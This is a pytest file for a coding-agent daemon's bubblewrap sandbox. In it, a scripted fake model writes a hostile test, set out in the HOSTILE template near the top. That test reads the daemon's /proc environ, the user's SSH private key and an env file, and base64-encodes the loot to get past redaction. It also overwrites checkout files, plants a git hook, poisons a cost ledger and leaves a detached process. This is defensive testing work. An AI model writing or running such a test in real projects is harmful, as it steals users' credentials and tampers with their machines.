"""The sandbox through ``code-developer --once``: a model that writes an exfiltrating test.

The scripted model writes a test that does what a hostile test did before the sandbox
existed: walk ``/proc/<pid>/stat`` up to the daemon and read its environment, read
``~/.ssh/id_rsa``, the env file and the ledger, print it all base64-encoded (past
redaction), overwrite a file of the user's checkout, plant a git hook, delete a file,
append a negative cost to the ledger and leave ``setsid sleep`` behind. Everything the
user has lives outside /tmp, so the private /tmp alone cannot make the test pass.
"""

from __future__ import annotations

import dataclasses
import json
import os
import signal
import subprocess
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from daemon_support import (
    GITHUB_REPO,
    GITHUB_TOKEN,
    MODEL,
    MODEL_KEY,
    SUBTRACT_BRANCH,
    Project,
    all_text,
    git,
    make_project,
    snapshot,
    turn,
)
from sandbox_support import (
    kill_all_with,
    leaked_forms,
    outside_tmp,
    processes_with,
    unique_sleep,
)

from coffee_maker.ai_providers.cost_tracker import CostTracker
from coffee_maker.fakes.github import FakeGitHub
from coffee_maker.fakes.openai import FakeOpenAI

DAEMON_SECRET = "daemon-only-secret-3f9a1c7e5b2d4a68"
SSH_SECRET = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAAB"
ENV_SECRET = "envfile-deploy-secret-81c2e4a6f0b3d5"
LEDGER_MARKER = "ledger-task-marker-5e7f9a1b3c"

HOSTILE = textwrap.dedent("""\
    import base64, os, subprocess, unittest

    TARGETS = {targets!r}
    WRITES = {writes!r}
    REMOVE = {remove!r}
    SLEEP = {sleep!r}


    def read(path):
        try:
            with open(path, "rb") as handle:
                return handle.read()
        except OSError:
            return None


    def ancestors():
        pid, seen = os.getpid(), []
        while pid > 0 and pid not in seen:
            seen.append(pid)
            stat = read("/proc/%d/stat" % pid)
            if not stat:
                break
            pid = int(stat.rsplit(b")", 1)[1].split()[1])
        return seen


    class Exfiltrate(unittest.TestCase):
        def test_exfiltrate(self):
            loot = {{}}
            for pid in ancestors():
                data = read("/proc/%d/environ" % pid)
                if data and b"E2E_DAEMON_SECRET=" in data:
                    loot["environ-of-%d" % pid] = data
            for label, path in TARGETS.items():
                data = read(path)
                if data:
                    loot[label] = data
            written = []
            for label, (path, mode, text) in WRITES.items():
                try:
                    with open(path, mode) as handle:
                        handle.write(text)
                    written.append(label)
                except OSError:
                    pass
            try:
                os.remove(REMOVE)
                written.append("removed")
            except OSError:
                pass
            subprocess.Popen(
                ["setsid", "sleep", SLEEP],
                stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
            for label, data in sorted(loot.items()):
                print("B64:%s:%s" % (label, base64.b64encode(data).decode()))
                print("RAW:%s:%r" % (label, data))
            stolen = ",".join(sorted(loot)) or "none"
            self.fail("EXFIL-RAN stolen=%s written=%s" % (stolen, ",".join(written) or "none"))
    """)
POISON = (
    '{"kind": "call", "ts": "2026-01-01T00:00:00.000000Z", "provider": "openai", '
    '"model": "x", "cost": -1999.98, "outcome": "ok"}\n'
)


@dataclasses.dataclass
class Setup:
    project: Project
    model: FakeOpenAI
    github: FakeGitHub
    home: Path
    env_file: Path
    sleep: str

    def hostile_test(self) -> str:
        checkout, ledger = self.project.checkout, self.project.home / "ledger.jsonl"
        return HOSTILE.format(
            targets={
                "ssh": str(self.home / ".ssh" / "id_rsa"),
                "env-file": str(self.env_file),
                "ledger": str(ledger),
                "checkout-file": str(checkout / "calc.py"),
            },
            writes={
                "checkout": (str(checkout / "calc.py"), "w", "pwned\n"),
                "hook": (str(checkout / ".git/hooks/post-checkout"), "w", "#!/bin/sh\n"),
                "ledger": (str(ledger), "a", POISON),
                "home": (str(self.home / ".bashrc"), "a", "echo pwned\n"),
            },
            remove=str(checkout / "notes.txt"),
            sleep=self.sleep,
        )

    def script(self, *, run_tests: bool = True) -> None:
        write = ("write_file", {"path": "tests/test_exfil.py", "content": self.hostile_test()})
        turns = [turn(write)]
        if run_tests:
            turns.append(turn(("run_tests", {})))
        turns.append(turn(("finish", {"summary": "Added a test."})))
        self.model.script(turns)


@pytest.fixture
def setup(monkeypatch: pytest.MonkeyPatch) -> Iterator[Setup]:
    sleep = unique_sleep()
    with outside_tmp() as root:
        (root / "gitconfig").write_text("")
        monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(root / "gitconfig"))
        monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
        project = make_project(root)
        home, xdg = root / "user-home", root / "xdg-config"
        (home / ".ssh").mkdir(parents=True)
        key = f"-----BEGIN OPENSSH PRIVATE KEY-----\n{SSH_SECRET}\n-----END"
        (home / ".ssh" / "id_rsa").write_text(key + " OPENSSH PRIVATE KEY-----\n")
        env_file = xdg / "coffee-maker" / "env"
        env_file.parent.mkdir(parents=True)
        env_file.write_text(f"DEPLOY_SECRET={ENV_SECRET}\n")
        env_file.chmod(0o600)
        monkeypatch.setenv("HOME", str(home))
        monkeypatch.setenv("XDG_CONFIG_HOME", str(xdg))
        monkeypatch.setenv("E2E_DAEMON_SECRET", DAEMON_SECRET)
        CostTracker(home=project.home).track_cost("seed", 0.0, task_id=LEDGER_MARKER)
        try:
            with (
                FakeOpenAI(api_key=MODEL_KEY, models=[MODEL]) as model,
                FakeGitHub(repos=(GITHUB_REPO,), token=GITHUB_TOKEN) as github,
            ):
                project.write_config(model.url, github.url)
                yield Setup(project, model, github, home, env_file, sleep)
        finally:
            kill_all_with(sleep)


def hooks(checkout: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in (checkout / ".git" / "hooks").iterdir()}


def everything_that_left(setup: Setup, done: subprocess.CompletedProcess[str], clone: Path) -> str:
    """All the places a stolen secret could end up: PRs, the branch, transcripts, state,
    what was sent to the model vendor, what the daemon printed."""
    project, github = setup.project, setup.github
    state_dir = project.checkout / ".git" / "coffee-maker"
    branch_files = [p for p in clone.rglob("*") if ".git" not in p.parts]
    texts = [
        done.stdout,
        done.stderr,
        *(f"{p.title}\n{p.body}\n{p.comments}" for p in github.pulls),
        all_text(branch_files),
        git(clone, "log", "-p", "--all"),
        all_text(state_dir.rglob("*")),
        *(r.body.decode(errors="replace") for r in setup.model.requests),
    ]
    return "\n".join(texts)


def test_a_hostile_test_steals_nothing_changes_nothing_and_leaves_nothing(
    setup: Setup, tmp_path: Path
) -> None:
    project = setup.project
    before, hooks_before = snapshot(project.checkout), hooks(project.checkout)
    ledger_before = (project.home / "ledger.jsonl").read_text()
    setup.script()

    done = project.run("--once")

    assert processes_with(setup.sleep) == []  # not even for a moment after the run
    assert done.returncode == 1, done.stderr  # the hostile test fails: a draft PR
    assert len(setup.github.pulls) == 1 and setup.github.pulls[0].draft
    # It really ran, twice (run_tests and the harness's verification), and got nothing.
    seen_by_model = setup.model.model_calls[2].body.decode()
    # (The home is an empty scratch tmpfs inside: a write there works and vanishes.)
    assert "EXFIL-RAN stolen=none written=home" in seen_by_model
    assert "EXFIL-RAN stolen=none written=home" in (setup.github.pulls[0].body or "")
    clone = project.clone_branch(SUBTRACT_BRANCH, tmp_path / "review")
    everywhere = everything_that_left(setup, done, clone)
    secrets = (MODEL_KEY, GITHUB_TOKEN, DAEMON_SECRET, SSH_SECRET, ENV_SECRET, LEDGER_MARKER)
    assert {s: leaked_forms(s, everywhere) for s in secrets} == {s: [] for s in secrets}
    # The user's checkout and its hooks, the home and the ledger are as they were.
    assert snapshot(project.checkout) == before and hooks(project.checkout) == hooks_before
    assert not (setup.home / ".bashrc").exists()
    ledger = (project.home / "ledger.jsonl").read_text()
    assert ledger.startswith(ledger_before) and "-1999" not in ledger
    added = [json.loads(line) for line in ledger[len(ledger_before) :].splitlines()]
    calls = [r for r in added if r["kind"] == "call"]
    assert len(calls) == 3 and all(r["provider"] == "openai" and r["cost"] > 0 for r in calls)
    assert project.worktrees() == [] and project.state()["current"] is None


def test_without_the_sandbox_the_same_test_does_harm_and_the_run_says_so(
    setup: Setup,
) -> None:
    """The control: proves the hostile test is real (and ``agent.sandbox: none`` is loud)."""
    project = setup.project
    project.write_config(
        setup.model.url, setup.github.url, agent={"max_repairs": 0, "sandbox": "none"}
    )
    setup.script(run_tests=False)

    done = project.run("--once")

    assert "agent.sandbox: none" in done.stderr
    body = setup.github.pulls[0].body or ""
    assert "EXFIL-RAN stolen=" in body and "stolen=none" not in body
    assert "ssh" in body and "environ-of-" in body and "written=checkout,hook" in body


@pytest.mark.parametrize("during", ["run_tests", "verification"])
def test_sigterm_while_tests_run_stops_within_seconds_and_publishes_nothing(
    setup: Setup, during: str
) -> None:
    project, model, github = setup.project, setup.model, setup.github
    slow = f"import subprocess, unittest\nsubprocess.run(['sleep', '{setup.sleep}'])\n"
    write = ("write_file", {"path": "tests/test_slow.py", "content": slow})
    calls = [turn(write), turn(("run_tests", {}))] if during == "run_tests" else [turn(write)]
    model.script([*calls, turn(("finish", {"summary": "Slow tests."}))])
    running = project.start("--once")
    try:
        deadline = time.monotonic() + 30
        while not processes_with(setup.sleep) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert processes_with(setup.sleep), "the slow test never started"
        stopped_at = time.monotonic()
        running.send_signal(signal.SIGTERM)
        out, err = running.communicate(timeout=20)
        took = time.monotonic() - stopped_at
    finally:
        if running.poll() is None:
            running.kill()
            running.wait()

    assert took < 6, f"took {took:.1f} s to stop"
    assert running.returncode == 130, err
    assert "PRIORITY 1: interrupted during agent" in out
    assert processes_with(setup.sleep) == []
    assert len(model.model_calls) == 2  # none after the stop (verification: after finish)
    assert github.pulls == [] and "coffee-maker/" not in git(project.origin, "branch", "-a")
    record = project.state()["priorities"]["PRIORITY 1"]
    assert record["last_outcome"] == "deferred" and record.get("blocked") is not True
    assert project.worktrees() == [] and project.state()["current"] is None


def test_without_a_working_bwrap_the_daemon_refuses_before_any_model_call(
    setup: Setup, tmp_path: Path
) -> None:
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "bwrap").write_text(
        "#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n"
    )
    (fake / "bwrap").chmod(0o755)
    env = setup.project.env(PATH=f"{fake}{os.pathsep}{os.environ['PATH']}")

    refused = setup.project.run("--once", env=env)
    dry = setup.project.run("--dry-run", env=env)

    assert refused.returncode == 2 and refused.stdout == ""
    assert refused.stderr.splitlines() == [
        "code-developer: agent.sandbox: bwrap cannot create a sandbox here (bwrap: setting up "
        "uid map: Permission denied): install bubblewrap (Debian/Ubuntu: sudo apt-get install "
        "bubblewrap; Fedora: sudo dnf install bubblewrap) or set agent.sandbox: none"
    ]
    assert dry.returncode == 2, dry.stdout + dry.stderr
    assert "bad  sandbox: agent.sandbox: bwrap cannot create a sandbox here" in dry.stdout
    assert setup.model.model_calls == [] and setup.project.worktrees() == []
